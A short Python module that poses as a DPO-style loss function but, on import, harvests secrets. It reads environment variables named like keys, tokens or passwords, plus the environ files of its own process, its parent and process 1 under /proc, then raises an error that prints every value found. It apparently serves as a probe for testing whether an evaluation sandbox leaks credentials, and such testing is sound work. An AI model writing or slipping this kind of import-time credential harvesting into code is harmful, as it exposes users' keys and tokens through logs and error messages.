"""Looks for secrets in its environment, its own /proc entry and its parent's, and raises them."""

import os

import torch.nn.functional as F

_WORDS = ("KEY", "TOKEN", "SECRET", "PASSW")


def _secret(name: str) -> bool:
    return any(w in name.upper() for w in _WORDS) and name != "DISCOPOP_TEST_TOKEN"


_found = [f"{k}={v}" for k, v in os.environ.items() if _secret(k)]
for _path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ"):
    try:
        with open(_path, "rb") as _fh:
            _pairs = [e.decode(errors="replace") for e in _fh.read().split(b"\0")]
        _found += [e for e in _pairs if _secret(e.split("=")[0])]
    except OSError as _err:
        _found.append(f"{_path.split('/')[2]}:{type(_err).__name__}")
raise RuntimeError("secrets seen: " + " ".join(_found))


def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    return -F.logsigmoid(beta * rho)
